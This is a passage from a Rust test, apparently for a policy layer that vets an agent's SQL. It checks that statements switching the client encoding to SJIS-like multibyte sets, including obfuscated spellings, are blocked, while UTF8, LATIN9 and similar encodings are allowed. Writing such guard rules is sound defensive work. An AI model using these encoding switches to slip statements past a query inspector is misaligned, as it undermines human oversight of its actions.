            "{sql}"
        );
    }
    // Where the statement names client_encoding, the refusal says so.
    assert_eq!(
        outcome("SET NAMES 'sjis'", &agent(), &none),
        "block:readable-client-encoding"
    );
    let allowed = [
        "SET client_encoding = 'UTF8'",
        "SET client_encoding = 'LATIN9'",
        "SET NAMES 'win1252'",
        "SET client_encoding = 'EUC_JP'",
        "SET client_encoding = 'SQL_ASCII'",
        "RESET client_encoding",
        "SET client_encoding TO DEFAULT",
        "SELECT set_config('client_encoding', 'latin1', false)",
        // A later session's encoding is checked when it starts.
        "ALTER ROLE agent SET client_encoding = 'UTF8'",
        "SELECT set_config(name, 'utf8', false) FROM pg_settings WHERE name = 'client_encoding'",
    ];
    for sql in allowed {
        assert_eq!(outcome(sql, &agent(), &none), "allow", "{sql}");
    }
    for (name, unreadable) in [
        ("SJIS", true),
        ("s-j-i-s", true),
        ("Shift_JIS", true),
        ("sh\u{e9}ift_jis", true),
        ("WINDOWS936", true),
        ("UTF8", false),
        ("unicode", false),
        ("EUC_TW", false),
        ("MULE_INTERNAL", false),
        ("KOI8U", false),
    ] {
        assert_eq!(
            hoop_policy::unreadable_client_encoding(name),
            unreadable,
            "{name}"
        );
    }
}
